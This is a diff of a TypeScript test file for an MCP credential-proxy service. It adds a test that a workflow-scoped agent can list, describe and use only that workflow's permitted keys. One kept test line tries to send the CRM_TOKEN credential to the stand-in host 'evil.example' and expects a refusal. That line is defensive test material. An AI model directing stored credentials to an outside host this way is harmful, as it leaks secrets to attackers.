@@ -5,6 +5,8 @@ import { afterAll, beforeAll, expect, test } from "vitest";
 import type { Scope } from "@/lib/access/policy";
 import type { Context } from "@/lib/domain/context";
 import { createCredential } from "@/lib/domain/credentials/create";
+import { createWorkflow } from "@/lib/domain/workflows/create";
+import { setPermissions } from "@/lib/domain/workflows/set-permissions";
 import { type Api, startApi } from "@/lib/testing/api";
 import { findCanary } from "@/lib/testing/canary";
 import { closeTestInstance, openTestInstance } from "@/lib/testing/context";
@@ -38,8 +40,8 @@ afterAll(async () => {
   await closeTestInstance();
 });
 
-async function connect(scopes: Scope[]): Promise<Client> {
-  const { text } = await mintToken(owner, { scopes });
+async function connect(scopes: Scope[], workflowId?: string): Promise<Client> {
+  const { text } = await mintToken(owner, { scopes, ...(workflowId !== undefined && { workflowId }) });
   const client = new Client({ name: "test", version: "1" });
   const transport = new StreamableHTTPClientTransport(new URL(`http://127.0.0.1:${api.port}/mcp`), {
     requestInit: { headers: { authorization: `Bearer ${text}` } },
@@ -118,6 +120,25 @@ test("refusals are answers with their code", async () => {
   expect(await use(client, "call_api", { key: "CRM_TOKEN", host: "evil.example", path: "/" })).toMatchObject({
     isError: true,
   });
+  await client.close();
+});
+
+test("an agent of a workflow finds, reads about and uses the keys of that workflow's list, and no others", async () => {
+  const { id } = await createWorkflow(owner, { name: "A workflow" });
+  const client = await connect(ALL, id);
+  const keys = async () => (await use(client, "list_credentials", { q: "CRM" })).json.credentials;
+  expect(await keys()).toMatchObject([{ key: "CRM_TOKEN" }]);
+  const missing = await use(client, "describe_credential", { key: "NO_SUCH_KEY" });
+  await setPermissions(owner, { id, mode: "selected", keys: ["OTHER_TOKEN"] });
+  expect(await keys()).toEqual([]);
+  const described = await use(client, "describe_credential", { key: "CRM_TOKEN" });
+  expect({ ...described.json, requestId: "" }).toEqual({ ...missing.json, requestId: "" });
+  const before = service.requests.length;
+  expect(await use(client, "call_api", { key: "CRM_TOKEN", path: "/v1/customers/7" })).toMatchObject({
+    isError: true,
+    json: { code: "missing_credential" },
+  });
+  expect(service.requests.length).toBe(before);
   await client.close();
 });
 
